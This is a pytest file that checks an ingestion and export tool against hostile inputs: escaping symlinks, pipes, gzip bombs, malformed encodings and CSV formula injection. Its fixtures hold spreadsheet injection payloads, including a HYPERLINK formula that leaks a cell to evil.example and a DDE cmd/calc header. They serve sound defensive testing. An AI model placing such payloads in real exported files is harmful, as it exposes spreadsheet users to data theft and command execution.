"""Hostile files and folders (issue #17, and #16's legacy encodings): every adversarial input is made
here, in tmp_path, small and fast; each test failed on the code before the fix."""
from __future__ import annotations

import csv
import gzip
import io
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from core.export import write_table
from core.ingest import IngestOptions, IngestReport, read_documents
from core.ingest_types import MAX_META_FIELDS, MORE_FIELDS
from core.pipeline import import_paths
from core.progress import Cancelled, Progress
from core.registry import discover

ROOT = Path(__file__).resolve().parents[1]


def read(path: Path, **kwargs) -> tuple[list[str], list[dict], list[str]]:
    report = IngestReport()
    batches = list(read_documents(path, IngestOptions(), report, **kwargs))
    return ([t for b in batches for t in b.texts], [m for b in batches for m in b.metas],
            [i.message for i in report.issues])


def texts_of(store, collection_ids: list[int]) -> list[str]:
    ids = store._cur().execute(
        f"SELECT id FROM documents WHERE collection_id IN ({','.join(map(str, collection_ids))}) ORDER BY id"
    ).fetchall()
    return store.texts([i for (i,) in ids])


# ------------------------------------------------------------------ 1: what a dropped folder may read


def test_links_out_of_a_dropped_folder_are_skipped_and_special_files_reported(store, tmp_path):
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("the user's private words\n", encoding="utf-8")
    (tmp_path / "outside" / "more.txt").write_text("more private words\n", encoding="utf-8")
    drop = tmp_path / "drop"
    (drop / "inner").mkdir(parents=True)
    (drop / "good.txt").write_text("a document of the drop\n", encoding="utf-8")
    (drop / "p.txt").symlink_to(secret)
    (drop / "docs").symlink_to(secret.parent, target_is_directory=True)
    (drop / "zero.txt").symlink_to("/dev/zero")
    (drop / "inner" / "again.txt").symlink_to(drop / "good.txt")  # a link inside the folder is fine
    os.mkfifo(drop / "pipe.txt")
    os.mkfifo(drop / "inner" / "target.txt")
    (drop / "inner" / "to_pipe.txt").symlink_to(drop / "inner" / "target.txt")

    outcome = import_paths(store, [drop])

    assert texts_of(store, outcome.collection_ids) == ["a document of the drop"]
    messages = "\n".join(i.message for i in outcome.report.issues)
    for name in ("p.txt", "docs", "zero.txt"):
        assert f"{name}: this link leads outside the dropped folder" in messages, messages
    assert "to /dev/zero" in messages and "does not exist" not in messages
    for name in ("pipe.txt", "target.txt", "to_pipe.txt"):
        assert f"{name}: this is not a regular file (a pipe, socket or device)" in messages, messages
    assert "private" not in messages


# ------------------------------------------------------------------ 3: CSV formula injection


def test_exported_csv_cells_never_start_a_formula(tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
               "\r=1+1", "plain text", "a = b"]
    path = write_table(tmp_path / "out.csv", {"text": hostile, "score": np.array([-1.5] * len(hostile)),
                                              "=cmd|' /C calc'!A0": list(range(len(hostile)))})
    with path.open(newline="", encoding="utf-8") as handle:
        header, *rows = list(csv.reader(handle))
    assert header == ["text", "score", "'=cmd|' /C calc'!A0"]
    cells = [row[0] for row in rows]
    assert cells[:6] == ["'" + text for text in hostile[:6]]
    assert cells[6:] == ["plain text", "a = b"]
    assert {row[1] for row in rows} == {"-1.5"}  # numbers stay numbers


# ------------------------------------------------------------------ 4: a plugin calling sys.exit()


def test_a_plugin_that_calls_sys_exit_at_import_is_listed_broken(tmp_path, monkeypatch):
    (tmp_path / "quitter_plugin.py").write_text("import sys\nsys.exit(3)\n", encoding="utf-8")
    monkeypatch.syspath_prepend(str(tmp_path))
    import importlib

    registry = discover(extra=[("quitter", lambda: importlib.import_module("quitter_plugin"))])

    (broken,) = [b for b in registry.broken if b.name == "quitter"]
    assert "sys.exit(3)" in broken.error
    assert "map" in registry.ids()  # the others still load


# ------------------------------------------------------------------ 5: repeated and countless columns


def test_thousands_of_repeated_headers_are_read_at_once_and_metadata_is_capped(tmp_path):
    n = 4_000  # took more than 280 s before (cubic renaming)
    path = tmp_path / "wide.csv"
    path.write_text(",".join(["a"] * n) + "\n" + ",".join(["the text of it all"] + ["7"] * (n - 1)) + "\n")

    texts, metas, messages = read(path)

    assert texts == ["the text of it all"]
    (meta,) = metas
    assert len(meta) == MAX_META_FIELDS + 1  # + the line number
    assert meta["a_2"] == 7 and meta["line"] == 2
    more = meta[MORE_FIELDS]
    assert len(more) == n - MAX_META_FIELDS and more[f"a_{n}"] == 7
    (message,) = messages
    assert message.startswith("wide.csv: kept 1 line: they have more than 256 metadata fields")


def test_labels_of_documents_with_folded_fields_leave_the_fold_out(store, tmp_path):
    n = 5_000  # 100,000 columns once took analyze to 19 GiB: every field of every label was a JSON parse of it all
    path = tmp_path / "many.csv"
    path.write_text(",".join(f"c{i}" for i in range(n)) + "\n"
                    + "".join(",".join([f"text number {r}"] + [str(r)] * (n - 1)) + "\n" for r in range(3)))
    outcome = import_paths(store, [path])
    ids = np.array([i for (i,) in store._cur().execute("SELECT id FROM documents ORDER BY id").fetchall()])

    labels = store.labels(ids)

    assert outcome.documents == 3 and MORE_FIELDS not in labels
    assert len(labels) == 1 + (MAX_META_FIELDS - 1) + 1  # collection, the kept fields, line
    assert labels["c1"].tolist() == [0.0, 1.0, 2.0]


# ------------------------------------------------------------------ 6: gzip bombs, Cancel, spilling


def _gzip(path: Path, block: bytes, times: int) -> Path:
    with gzip.open(path, "wb", compresslevel=9) as handle:
        for _ in range(times):
            handle.write(block)
    return path


def test_a_gzip_bomb_stops_with_a_message_naming_the_file(tmp_path, monkeypatch):
    monkeypatch.setattr("core.ingest_stream.GZIP_FLOOR", 1 << 20)
    bomb = _gzip(tmp_path / "bomb.txt.gz", b"first line\n" + b" " * (1 << 20) + b"\n", 40)
    assert bomb.stat().st_size < 200_000

    texts, _, messages = read(bomb)

    assert texts and set(texts) == {"first line"}  # what came before the limit is kept
    assert any(m.startswith("bomb.txt.gz: the compressed file expands to more than") and "zip bomb" in m
               for m in messages), messages


def test_cancel_is_polled_inside_a_stream_of_blank_lines(tmp_path):
    stream = _gzip(tmp_path / "blank.txt.gz", b"\n" * (1 << 20), 64)  # 64 Mi blank lines, no documents at all
    polls = 0

    def check() -> None:
        nonlocal polls
        polls += 1
        if polls == 20:
            raise Cancelled()

    with pytest.raises(Cancelled):
        read(stream, check=check)
    assert polls == 20


def test_parquet_gz_is_not_spilled_beyond_the_free_space(tmp_path, monkeypatch):
    buffer = io.BytesIO()
    pq.write_table(pa.table({"text": ["a row of text"] * 1000}), buffer)
    path = tmp_path / "table.parquet.gz"
    path.write_bytes(gzip.compress(buffer.getvalue()))
    free = __import__("shutil").disk_usage(__import__("tempfile").gettempdir()).free
    monkeypatch.setattr("core.ingest_tables.SPILL_RESERVE", free)  # nothing may be spilled

    texts, _, messages = read(path)

    assert texts == []
    assert any(m.startswith("table.parquet.gz: decompressing it needs more than") and "free space" in m
               for m in messages), messages


# ------------------------------------------------------------------ 7: huge texts in widgets


def test_huge_documents_are_capped_in_every_label_tooltip_and_cell(qtbot):
    from plugins.neighbours.panel import NeighboursPanel

    panel = NeighboursPanel.preview()
    qtbot.addWidget(panel)
    word, document = "w" * 200_000, "many words " * 2_000_000  # a 200,000-character word, a 22 MB text
    panel.context.set_text_lookup(lambda rows: [word if int(r) % 2 else document for r in rows])
    panel.context.sig_selection_changed.emit(np.array([1], dtype=np.int64))
    panel.show()

    assert len(panel.source.text()) < 400 and len(panel.source.toolTip()) < 3_000
    assert panel.sizeHint().width() < 1_500 and panel.minimumSizeHint().width() < 1_500
    for row in range(panel.neighbours.rowCount()):
        cell = panel.neighbours.item(row, 2)
        assert len(cell.text()) <= 160 and len(cell.toolTip()) < 3_000


# ------------------------------------------------------------------ 9: hash what was read


def test_a_file_growing_while_it_is_imported_is_keyed_by_what_was_read(store, tmp_path):
    path = tmp_path / "grow.txt"
    path.write_text("".join(f"line {i} of the first part\n" for i in range(5_000)), encoding="utf-8")  # 140 KB
    grown = []

    def on_progress(done: int, total: int, message: str) -> None:
        if message.startswith("Reading") and not grown:  # hashed already, now being read
            with path.open("a", encoding="utf-8") as handle:
                handle.write("".join(f"line {i} appended meanwhile\n" for i in range(1_000)))
            grown.append(True)

    first = import_paths(store, [path], IngestOptions(batch_size=100), Progress(on_progress, max_rate=0))
    assert grown and first.documents == 6_000  # the reader read the appended lines too

    again = import_paths(store, [path], IngestOptions(batch_size=100))

    assert again.collection_ids == [] and again.reused_ids == first.collection_ids
    assert [c.name for c in store.collections()] == ["grow"]


# ------------------------------------------------------------------ 10: names that are not UTF-8


def test_a_file_name_that_is_not_utf8_is_reported_and_the_rest_imports(store, tmp_path):
    drop = tmp_path / "drop"
    drop.mkdir()
    (drop / "good.txt").write_text("a good document\n", encoding="utf-8")
    bad = os.path.join(os.fsencode(drop), b"caf\xe9.txt")
    with open(bad, "wb") as handle:
        handle.write(b"hidden behind a bad name\n")

    outcome = import_paths(store, [drop, os.fsdecode(bad)])

    assert texts_of(store, outcome.collection_ids) == ["a good document"]
    messages = [i.message for i in outcome.report.issues]
    assert messages == [r"caf\xe9.txt: its name is not valid UTF-8 (shown with \x escapes), so it was skipped; "
                        "rename it (e.g. with convmv) to import it."] * 2
    assert r"caf\xe9.txt" in outcome.report.summary()


# ------------------------------------------------------------------ 14 and #16: clear messages, legacy text


def test_latin1_text_is_decoded_as_cp1252_and_said_so(tmp_path):
    path = tmp_path / "latin.txt"
    path.write_bytes("Café crème à 3 € — naïve\nplain line\n".encode("cp1252"))

    texts, _, messages = read(path)

    assert texts == ["Café crème à 3 € — naïve", "plain line"]
    assert messages == ["latin.txt: decoded as Windows-1252 (cp1252, a superset of Latin-1): the file is not valid "
                        "UTF-8 (byte 0xE9 at offset 3). If characters look wrong, save the file as UTF-8."]


def test_invalid_utf8_in_parquet_keeps_the_rows_with_a_warning(tmp_path):
    raw = pa.array([b"fine text", b"caf\xe9 au lait", b"more text"], type=pa.binary())
    path = tmp_path / "bad.parquet"
    pq.write_table(pa.table({"text": raw.view(pa.string()), "tag": raw.view(pa.string())}), path)

    texts, metas, messages = read(path)

    assert texts == ["fine text", "caf\ufffd au lait", "more text"] and metas[1]["tag"] == "caf\ufffd au lait"
    assert messages == ["bad.parquet: kept 1 row: strings not valid UTF-8, the bad bytes replaced with '\ufffd' "
                        "(row 2)"]


def test_deeply_nested_jsonl_is_skipped_with_a_clear_message(tmp_path):
    path = tmp_path / "deep.jsonl"
    path.write_text('{"text": "one"}\n{"text": ' + "[" * 100_000 + "]" * 100_000 + '}\n{"text": "two"}\n')

    texts, _, messages = read(path)

    assert texts == ["one", "two"]
    assert messages == ["deep.jsonl: skipped 1 line: not valid JSON (line 2); first problem: nested too deeply to "
                        "read (lists or objects about 1,000 levels deep)"]


def test_import_messages_name_the_file_once(tmp_path):
    fake = tmp_path / "fake.pdf"
    fake.write_bytes(b"%PDF-1.4 not really")
    notes = tmp_path / "notes.txt"
    notes.write_text("one note\n", encoding="utf-8")
    env = {**os.environ, "QT_QPA_PLATFORM": "offscreen", "HF_HUB_OFFLINE": "1"}

    done = subprocess.run([sys.executable, str(ROOT / "main.py"), "ingest", str(fake), str(notes), "--workspace",
                           str(tmp_path / "ws.duckdb"), "--no-embed"], capture_output=True, text=True, env=env,
                          cwd=ROOT, timeout=300)

    assert done.returncode == 0, done.stderr
    assert "error: fake.pdf: PDF files are not supported" in done.stderr
    assert "fake.pdf: fake.pdf" not in done.stderr and str(fake) not in done.stderr
